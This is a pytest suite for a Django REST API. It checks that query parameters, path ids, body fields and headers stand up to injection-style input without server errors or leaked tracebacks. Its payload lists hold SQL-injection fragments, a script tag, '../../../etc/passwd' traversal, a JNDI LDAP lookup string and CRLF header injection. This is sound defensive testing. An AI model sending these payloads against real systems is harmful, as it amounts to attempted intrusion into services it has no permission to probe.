"""OWASP API8 (injection): every query parameter of every GET endpoint, every body field of every
POST endpoint, the path ids and the headers the API reads take hostile values (SQL fragments, NUL
bytes, unpaired surrogates, very long unicode, markup, JSON in strings, path traversal, NaN and
overflowing numbers) and answer 2xx or a 4xx JSON error: never a 5xx, never a traceback.

Run on SQLite and on PostgreSQL (DATABASE_URL): PostgreSQL refuses NUL in text and jsonb, so a NUL
that reaches the database is a 500 there and not on SQLite.
"""

import itertools
import json
from typing import Any

import pytest
from rest_framework.test import APIClient

from accounts.models import User
from places import photos
from places.models import Place
from tests.contract import ERROR as ERROR_RULES
from tests.contract import violations
from tests.factories import ConversationFactory, EventFactory
from tests.security.conftest import client, fresh_token

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("no_providers", "no_ratelimits")]

NUMBER_HOSTILE = ["' OR 1=1 --", "1\x00", "NaN", "-Infinity", "1e309", "99999999999999999999", "-1", "é" * 1100]
TEXT_HOSTILE = [
    "' OR 1=1 --", "a\x00b", "é" * 3000, "<script>alert(1)</script>", '{"$gt": ""}', "../../../etc/passwd",
    "%s%n{0}{{7*7}}${jndi:ldap://x/a}\r\nX-Injected: 1", "", "🙂\u202e%",
]
BODY_HOSTILE: list[Any] = [
    "' OR 1=1 --", "a\x00b", "é" * 3000, "<script>alert(1)</script>", "../../etc/passwd",
    {"$gt": ""}, ["a", {"b": None}], None, True, -1, 1.7976931348623157e308, 10**40, "",
]
# Raw JSON bodies json.dumps cannot write from Python values: parsed to these by the server (which
# refuses them before any field is read, so once per endpoint is enough).
RAW_HOSTILE = ['"a\\udfffb"', "-1e999", "[" * 40 + "]" * 40]

COORDINATE_PAIRS = {
    "latitude": "longitude", "longitude": "latitude", "lat": "lng", "lng": "lat", "lon": "lat",
    "origin_lat": "origin_lng", "origin_lng": "origin_lat",
}
PARTNER_VALUES = {"latitude": 40.7, "longitude": -73.99, "lat": 40.7, "lng": -73.99, "lon": -73.99, "origin_lat": 40.69, "origin_lng": -73.98}


def _check(response: Any, label: str) -> None:
    status = response.status_code
    text = response.content.decode(errors="replace")
    assert "Traceback" not in text and 'File "' not in text, label
    if status == 503:
        assert response.json()["code"] == "weather_unavailable", (label, text[:300])  # documented: no weather provider
        return
    assert status < 500, (label, status, text[:300])
    if status in (204, 301, 302):
        return
    assert response["Content-Type"].startswith("application/json"), (label, response["Content-Type"])
    body = response.json()
    if status >= 400:
        assert not violations(ERROR_RULES, body), (label, body)


def _params(base: dict, name: str, value: Any, partner_value: bool = True) -> dict:
    params = {**base, name: value}
    partner = COORDINATE_PAIRS.get(name)
    if partner and partner_value and partner not in params:
        params[partner] = PARTNER_VALUES[partner]
    return params


# --- Query parameters ---------------------------------------------------------------------------------
GETS = [
    # (path, base params, numeric params, text params, signed in)
    ("/api/quick_recs", {"category": "quick_bites"}, ["limit", "latitude", "longitude"], ["category", "vibe"], False),
    ("/api/top_recommendations", {}, ["limit", "latitude", "longitude"], ["vibe", "weather"], True),
    ("/api/dashboard", {}, ["latitude", "longitude"], [], True),
    ("/api/directions", {"lat": 40.73, "lng": -73.99}, ["lat", "lng", "origin_lat", "origin_lng"], ["mode"], False),
    ("/api/weather", {}, ["lat", "lon"], [], False),
    ("/api/weather/forecast", {}, ["lat", "lon"], [], False),
    ("/api/places/photo/places/ChIJabc/photos/AXCi2Q", {"sig": photos.signature("places/ChIJabc/photos/AXCi2Q")}, ["maxwidth"], ["sig"], False),
    ("/api/v1/places/", {"lat": 40.6934, "lng": -73.9855, "radius_m": 800}, ["lat", "lng", "radius_m", "min_rating", "page"], ["category", "vibe", "q", "open_now", "ordering"], True),
    ("/api/nyu_engage_events", {}, ["days"], [], False),
    ("/api/events", {}, ["days"], [], False),
    ("/api/v1/events/", {}, ["lat", "lng", "radius_m", "page"], ["starts_after", "starts_before", "source", "q"], False),
    ("/api/v1/chat/conversations/", {}, ["page"], ["search", "ordering"], True),
    ("/api/user/me", {}, [], ["id", "email"], True),
    ("/health", {}, [], ["format"], False),
]


USES_PLACES = {"/api/quick_recs", "/api/top_recommendations", "/api/dashboard", "/api/v1/places/"}


@pytest.mark.parametrize(("path", "base", "numeric", "text", "signed_in"), GETS, ids=[get[0] for get in GETS])
def test_every_query_parameter_survives_hostile_values(request, user, path, base, numeric, text, signed_in):
    if path in USES_PLACES:
        request.getfixturevalue("catalog")  # real rows for the searches and rankings to run over
    api = client(fresh_token(user) if signed_in else None)
    ConversationFactory(user=user, title="mine")
    cases = [(name, value) for name in numeric for value in NUMBER_HOSTILE]
    cases += [(name, value) for name in text for value in TEXT_HOSTILE]
    cases += [("unknown_param", value) for value in ("' OR 1=1 --", "a\x00b")]  # ignored, but must stay so
    assert cases
    for name, value in cases:
        _check(api.get(path, _params(base, name, value)), f"GET {path} {name}={value[:40]!r}")
    # Radius filters with a hostile centre, where the coordinates feed SQL and distance maths.
    for name, value in itertools.product(("lat", "lng"), ("nan", "inf", "1e309", "\x00")):
        if name in numeric and "radius_m" in numeric:
            _check(api.get(path, _params({"radius_m": 500}, name, value)), f"GET {path} radius {name}={value!r}")


# --- Path ids -----------------------------------------------------------------------------------------
HOSTILE_IDS = [
    "99999999999999999999", "9223372036854775807", "9223372036854775808", "18446744073709551616", "-1", "0", "-0",
    "1e3", "1.5", "abc", "%00", "1%00", "1%20OR%201=1", "1'--", "%2e%2e", "..", "0x10",
]


@pytest.mark.usefixtures("catalog")
@pytest.mark.parametrize("collection", ["/api/v1/places/", "/api/v1/events/", "/api/v1/chat/conversations/"])
def test_path_ids_that_are_not_a_known_row_are_404_json(user, collection):
    api = client(fresh_token(user))
    for raw in HOSTILE_IDS:
        response = api.get(f"{collection}{raw}/")
        _check(response, f"GET {collection}{raw}/")
        assert response.status_code == 404, (raw, response.status_code)
    # A known row of the collection is found: the 404s above are not everything being a 404.
    known = {
        "/api/v1/places/": lambda: Place.objects.first(),
        "/api/v1/events/": lambda: EventFactory(),
        "/api/v1/chat/conversations/": lambda: ConversationFactory(user=user),
    }[collection]()
    assert api.get(f"{collection}{known.pk}/").status_code == 200


# --- Body fields --------------------------------------------------------------------------------------
_SIGNUPS = itertools.count()


def _signup_body() -> dict:
    """A new valid signup each time (a hostile value in one field may still create the account)."""
    return {"email": f"fuzz{next(_SIGNUPS)}@nyu.edu", "password": "a-fuzzing-violet-pass-8", "first_name": "Fuzz"}


POSTS = [
    # (method, path, valid body into which one field at a time is replaced, fields, signed in);
    # EMAIL and PASSWORD stand for the user's email and a wrong password; None is a fresh signup.
    ("post", "/api/auth/signup", None, ["email", "password", "first_name"], False),
    ("post", "/api/auth/login", {"email": "EMAIL", "password": "PASSWORD"}, ["email", "password"], False),
    ("post", "/api/auth/refresh", {"refresh_token": "x"}, ["refresh_token"], False),
    ("post", "/api/auth/logout", {}, ["refresh_token", "all"], True),
    ("post", "/api/auth/password", {"current_password": "not-the-password-1", "new_password": "a-new-violet-pass-99"}, ["current_password", "new_password"], True),
    ("delete", "/api/user/me", {"password": "not-the-password-1"}, ["password"], True),
    (
        "post", "/api/user/preferences", {},
        ["preferred_vibes", "budget", "dietary_restrictions", "max_walk_minutes_default", "interests", "vibes", "distance_limit_minutes", "indoor_outdoor", "commute_preference"],
        True,
    ),
    ("post", "/api/user/settings", {}, ["notifications_enabled", "calendar_integration_enabled", "google_calendar_enabled", "use_preferences_for_personalization"], True),
    ("post", "/api/user/profile", {}, ["first_name", "home_address"], True),
    ("post", "/api/user/activity", {"type": "saved"}, ["type", "place_id", "name", "vibe", "score", "anything_else"], True),
    ("post", "/api/user/notification_token", {"token": "device"}, ["token"], True),
    ("post", "/api/chat", {"message": "coffee near me"}, ["message", "latitude", "longitude", "vibe", "commute_preference", "clear_session", "session_id"], False),
    ("post", "/api/chat", {"message": "coffee near me"}, ["message", "session_id"], True),
]


@pytest.mark.parametrize(("method", "path", "valid", "fields", "signed_in"), POSTS, ids=[f"{p[0]} {p[1]}{' signed-in' if p[4] else ''}" for p in POSTS])
def test_every_body_field_survives_hostile_values(user, method, path, valid, fields, signed_in):
    api = APIClient(REMOTE_ADDR="10.7.0.1")

    def send(body: Any, raw: str | None = None) -> Any:
        def once() -> Any:
            if raw is not None:
                return getattr(api, method)(path, data=raw, content_type="application/json")
            return getattr(api, method)(path, body, format="json")

        response = once()
        if signed_in and response.status_code == 401:  # an earlier value was valid and signed out everywhere
            api.credentials(HTTP_AUTHORIZATION=f"Bearer {fresh_token(user)}")
            response = once()
        return response

    if signed_in:
        api.credentials(HTTP_AUTHORIZATION=f"Bearer {fresh_token(user)}")

    def valid_body() -> dict:
        return _signup_body() if valid is None else {k: {"EMAIL": user.email, "PASSWORD": "wrong-password-1"}.get(v, v) for k, v in valid.items()}

    for field in fields:
        for value in BODY_HOSTILE:
            _check(send({**valid_body(), field: value}), f"{method} {path} {field}={str(value)[:40]!r}")
    for raw in RAW_HOSTILE:
        text = json.dumps({**valid_body(), fields[0]: "RAW"}).replace('"RAW"', raw)
        response = send(None, raw=text)
        _check(response, f"{method} {path} {fields[0]}=raw {raw[:20]}")
        assert response.status_code == 400, (path, raw)
    assert User.objects.filter(pk=user.pk).exists()  # no hostile value deleted the account


@pytest.mark.parametrize(
    "payload",
    [{"type": "saved", "note": "a\x00b"}, {"type": "saved", "a\x00": 1}, {"type": "saved", "deep": {"list": ["ok", "\x00"]}}],
    ids=["value", "key", "nested"],
)
def test_a_nul_anywhere_in_an_activity_is_400_not_a_database_error(user, payload):
    """Found here: the extra keys of an activity go to a JSON column as sent; PostgreSQL refuses NUL
    in jsonb, so a NUL there was a 500 on PostgreSQL (and stored as is on SQLite)."""
    api = client(fresh_token(user))

    response = api.post("/api/user/activity", payload, format="json")

    assert response.status_code == 400, response.content
    assert not user.activities.exists()
    assert api.get("/api/user/me").status_code == 200


@pytest.mark.parametrize(
    ("path", "raw"),
    [
        ("/api/user/activity", '{"type": "saved", "score": 1e999}'),
        ("/api/user/activity", '{"type": "saved", "x": [1, -1e999]}'),
        ("/api/user/activity", '{"type": "saved", "x": "\\udfff"}'),
        ("/api/user/preferences", '{"vibes": {"\\ud800": 0.5}}'),
    ],
)
def test_numbers_out_of_range_and_unpaired_surrogates_are_400_and_never_stored(user, path, raw):
    """Found here: a score of 1e999 (infinity) was stored and then /api/user/me failed (500) for good,
    since JSON cannot carry it; infinity or an unpaired surrogate in an activity's extra keys was a
    500 at once, and so was an unpaired surrogate as a vibe name (its error message echoes the name,
    which cannot be encoded)."""
    api = client(fresh_token(user))
    before = User.objects.get(pk=user.pk).preferences

    response = api.post(path, data=raw, content_type="application/json")

    assert response.status_code == 400
    assert response.json()["code"] in ("invalid_json", "validation_error")
    assert not user.activities.exists()
    assert User.objects.get(pk=user.pk).preferences == before
    assert api.get("/api/user/me").status_code == 200


@pytest.mark.parametrize(
    ("path", "params"),
    [
        ("/api/directions", {"lat": "nan", "lng": "nan"}),
        ("/api/directions", {"lat": 40.7, "lng": -73.9, "origin_lat": "nan", "origin_lng": "nan"}),
        ("/api/v1/places/", {"lat": "nan", "lng": "nan"}),
        ("/api/v1/events/", {"lat": "nan", "lng": "nan"}),
        ("/api/quick_recs", {"category": "quick_bites", "latitude": "nan", "longitude": "nan"}),
        ("/api/v1/places/", {"min_rating": "NaN"}),
    ],
)
def test_nan_coordinates_are_400_not_500(event, path, params):
    """Found here: DRF's FloatField takes "nan", which passes every min/max check; the walk-time
    estimate then failed on round(nan) and the places and directions endpoints answered 500."""
    response = client().get(path, params)

    assert response.status_code == 400, response.content
    _check(response, path)


# --- Headers ------------------------------------------------------------------------------------------
HEADER_HOSTILE = ["' OR 1=1 --", "../../etc/passwd", "x" * 5000, "<script>", "%00", "true\x7f", "1" * 70, "é"]


def test_hostile_headers_are_harmless(user):
    api = client()
    token = fresh_token(user)
    for value in HEADER_HOSTILE:
        encoded = value.encode("utf-8").decode("latin-1")  # what a WSGI server hands over for non-ASCII bytes
        for header in ("HTTP_X_SESSION_ID", "HTTP_X_REQUEST_ID", "HTTP_X_CLEAR_SESSION", "HTTP_X_FORWARDED_FOR", "HTTP_COOKIE"):
            response = api.post("/api/chat", {"message": "coffee"}, format="json", **{header: encoded})
            _check(response, f"{header}={value[:20]!r}")
            assert response["X-Request-ID"] != encoded or len(encoded) <= 64
        for auth in (f"Bearer {encoded}", f"Bearer {token}{encoded}", encoded, f"Bearer {token} {encoded}"):
            response = api.get("/api/user/me", HTTP_AUTHORIZATION=auth)
            _check(response, f"Authorization={auth[:30]!r}")
            assert response.status_code == 401
